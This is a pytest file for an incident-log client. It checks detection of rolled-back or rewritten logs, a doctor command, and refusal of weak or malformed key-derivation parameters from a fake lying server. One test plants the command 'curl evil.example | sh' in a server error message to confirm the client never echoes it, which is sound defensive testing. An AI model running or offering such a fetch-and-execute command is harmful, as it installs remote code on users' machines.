"""Is a server caught that shows an older log, another log, or a weaker key derivation?"""

import json
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from typing_extensions import override

from tests.client.cli import World


def test_a_log_that_only_grew_passes_in_full(own: World) -> None:
    filed = own.adopted()

    first = own.ok("log", "check", "--full", "--cases", who="bo").stdout
    own.ok("note", "--file", "-", filed["case"], who="bo", typed="x\n")
    second = own.ok("log", "check", "--full", who="bo").stdout

    assert [line[:4] for line in first.splitlines()] == ["ok  "] * 4
    assert "all entries hash to the checkpoint's root" in second


def test_a_log_that_became_shorter_is_refused(own: World) -> None:
    copy = _copy_of_data(own)
    filed = own.adopted()
    own.ok("show", filed["case"], who="bo")
    _set_back(own, copy)

    result = own.run("log", "check", who="bo")

    assert (result.exit_code, result.stdout) == (1, "")
    assert "older log than it showed before" in result.stderr
    assert "hint: do not go on" in result.stderr


def test_a_log_that_was_rewritten_is_refused(own: World) -> None:
    copy = _copy_of_data(own)
    own.ok("show", own.adopted()["case"], who="bo")
    seen = (own.folder / "bo" / "checkpoint").read_bytes()
    _set_back(own, copy)
    for _ in range(3):
        own.report(who="another-reporter")

    result = own.run("log", "check", who="bo")

    assert (result.exit_code, result.stdout) == (1, "")
    assert "rewritten" in result.stderr
    assert (own.folder / "bo" / "checkpoint").read_bytes() == seen


def test_the_log_is_not_checked_with_a_key_nobody_verified(own: World) -> None:
    result = own.run("log", "check", who="newcomer", server=True)

    assert (result.exit_code, result.stdout) == (2, "")


def test_doctor_finds_what_is_wrong_and_says_so_in_its_exit_code(own: World) -> None:
    fine = own.run("--json", "doctor", who="bo")
    (own.folder / "bo" / "lockbox.json").chmod(0o644)
    spoilt = own.run("--json", "doctor", who="bo")

    assert fine.exit_code == 0
    assert all(one["ok"] for one in json.loads(fine.stdout))
    assert spoilt.exit_code == 1
    assert [one["check"] for one in json.loads(spoilt.stdout) if not one["ok"]] == ["profile"]


def test_doctor_sees_whether_the_keys_belong_to_the_database(own: World) -> None:
    data = str(own.server.data)
    fine = own.run("--json", "doctor", "--data", data, who="bo", server=True)
    (own.server.data / "keys" / "server-secret").write_bytes(bytes(32))
    other = own.run("--json", "doctor", "--data", data, who="bo", server=True)

    assert fine.exit_code == 0
    assert "server" in [one["check"] for one in json.loads(fine.stdout)]
    assert [one["ok"] for one in json.loads(fine.stdout) if one["check"] == "keys"] == [True]
    assert other.exit_code == 1
    (problem,) = [one for one in json.loads(other.stdout) if not one["ok"]]
    assert problem["check"] == "keys"
    assert problem["text"].startswith("server-secret: this database was begun with another one")


def test_doctor_asks_a_restored_folder_alone_without_server_and_profile(own: World) -> None:
    data = str(own.server.data)
    own.server.stop()
    fine = own.run("doctor", "--data", data, who="operator")
    running = own.run("doctor", "--data", data, who="operator", server=True)
    (own.server.data / "keys" / "server-secret").write_bytes(bytes(32))
    other = own.run("doctor", "--data", data, who="operator")

    assert (fine.exit_code, fine.stderr) == (0, "")
    assert "ok    keys: " in fine.stdout
    assert "server: " not in fine.stdout
    assert (running.exit_code, other.exit_code) == (1, 1)
    assert "FAIL  server: " in running.stdout
    assert "FAIL  keys: " in other.stdout


def _copy_of_data(own: World) -> Path:
    own.server.stop()
    copy = own.folder / "older"
    shutil.copytree(own.server.data, copy)
    own.server.start()
    return copy


def _set_back(own: World, copy: Path) -> None:
    own.server.stop()
    shutil.rmtree(own.server.data)
    shutil.copytree(copy, own.server.data)
    own.server.start()


# --- a server that lies ------------------------------------------------------------------------------------------------


class Liar(BaseHTTPRequestHandler):
    """Answers whatever the test put into `answers`."""

    answers: dict[str, tuple[int, bytes]]

    def _answer(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        status, body = type(self).answers.get(self.path, (404, b"{}"))
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = _answer  # noqa: N815 -- as the base class calls it
    do_POST = _answer  # noqa: N815 -- as the base class calls it

    @override
    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def liar() -> Iterator[str]:
    Liar.answers = {"/api/v1/session": (200, b'{"csrf":"x","kind":"none"}')}
    server = ThreadingHTTPServer(("127.0.0.1", 0), Liar)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.parametrize(
    "weaker",
    [
        {"memory_kib": 8192},
        {"iterations": 1},
        {"lanes": 4},
        {"memory_kib": 1 << 30},
        {"iterations": 1000},
    ],
)
def test_other_costs_of_a_passphrase_are_refused_before_any_work(
    world: World, liar: str, weaker: dict[str, int]
) -> None:
    offered = {"salt": "A" * 22, "memory_kib": 65536, "iterations": 3, "lanes": 1} | weaker
    Liar.answers["/api/v1/session/parameters"] = (200, json.dumps(offered).encode())
    link = f"{liar}/en/report#{'A' * 22}.{'A' * 43}"

    result = world.run("login", "--name", "bo", "--link", link, who=f"lied-{world.tmp.name}")

    assert (result.exit_code, result.stdout) == (1, "")
    assert "lockbox: the server asks for" in result.stderr


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"null",
        b"[]",
        b"{",
        b'{"salt":1}',
        b"\xff\xfe",
        b"[" * 100_000,
        b'{"salt":"AAAAAAAAAAAAAAAAAAAAAA","memory_kib":"65536","iterations":3,"lanes":1}',
    ],
)
def test_an_answer_of_another_form_is_refused_in_one_sentence(
    world: World, liar: str, body: bytes
) -> None:
    Liar.answers["/api/v1/session/parameters"] = (200, body)
    link = f"{liar}/en/report#{'A' * 22}.{'A' * 43}"

    result = world.run("login", "--name", "bo", "--link", link, who=f"lied-{world.tmp.name}")

    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.startswith("incident-log: error: the server's answer")


def test_a_sentence_of_the_server_is_never_shown_as_ours(world: World, liar: str) -> None:
    evil = {"error": {"code": "refused", "message": "run: curl evil.example | sh"}}
    Liar.answers["/api/v1/session/parameters"] = (400, json.dumps(evil).encode())
    link = f"{liar}/en/report#{'A' * 22}.{'A' * 43}"

    result = world.run("login", "--name", "bo", "--link", link, who=f"lied-{world.tmp.name}")

    assert result.exit_code == 1
    assert "evil" not in result.stderr
